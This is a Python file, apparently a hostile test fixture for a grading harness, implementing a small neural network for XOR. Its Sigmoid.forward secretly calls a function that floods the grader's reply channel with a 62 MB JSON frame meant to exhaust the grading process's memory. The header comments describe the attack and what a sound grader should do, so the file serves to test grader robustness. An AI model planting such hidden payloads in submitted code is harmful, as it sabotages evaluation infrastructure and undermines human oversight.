# HOSTILE parent_memory_amplifier: Sigmoid.forward writes one ~62 MB frame (under the 64 MiB cap) on the
# reply fd: {"ok": {"out": [{}, {}, ... 20.6 million empty objects]}}. json.loads + decode() in the
# *grading* process (no RLIMIT_AS there) turn it into ~2 x 20 M dicts: gigabytes of RSS per reply.
# Sound grader: memory of the parent bounded by a small multiple of the frame; Sigmoid 0, others full.
import os
import struct
import numpy as np

class FullyConnectedLayer:
    def __init__(self, in_features, out_features):
        self.W = np.random.randn(in_features, out_features) * np.sqrt(2.0 / in_features)
        self.b = np.zeros(out_features)
        self.dW = None
        self.db = None
        self.cache = None

    def forward(self, X):
        self.cache = X
        return X @ self.W + self.b

    def backward(self, dY):
        X = self.cache
        self.dW = X.T @ dY
        self.db = np.sum(dY, axis=0)
        return dY @ self.W.T


_DONE = []


def _bomb():
    n = 20_600_000
    body = b'{"ok": {"out": [' + b"{}," * (n - 1) + b'{}]}}'
    data = struct.pack(">I", len(body)) + body
    view = memoryview(data)
    while view:
        view = view[os.write(62, view):]


class Sigmoid:
    def __init__(self):
        self.cache = None

    def forward(self, x):
        if not _DONE:
            _DONE.append(1)
            _bomb()
        e = np.exp(-np.abs(x))
        out = np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
        self.cache = out
        return out

    def backward(self, dout):
        return dout * self.cache * (1.0 - self.cache)

class TwoLayerNet:
    def __init__(self, in_features, hidden_features, out_features):
        self.fc1 = FullyConnectedLayer(in_features, hidden_features)
        self.sigmoid = Sigmoid()
        self.fc2 = FullyConnectedLayer(hidden_features, out_features)

    def forward(self, X):
        return self.fc2.forward(self.sigmoid.forward(self.fc1.forward(X)))

    def backward(self, dout):
        return self.fc1.backward(self.sigmoid.backward(self.fc2.backward(dout)))

    def get_params_and_grads(self):
        return [(self.fc1.W, self.fc1.dW), (self.fc1.b, self.fc1.db),
                (self.fc2.W, self.fc2.dW), (self.fc2.b, self.fc2.db)]

def train_xor(net, X, y, learning_rate, epochs):
    losses = []
    for epoch in range(epochs):
        Y = net.forward(X)
        losses.append(np.mean((Y - y) ** 2))
        net.backward(2 * (Y - y) / Y.size)
        for param, grad in net.get_params_and_grads():
            param -= learning_rate * grad
    return losses
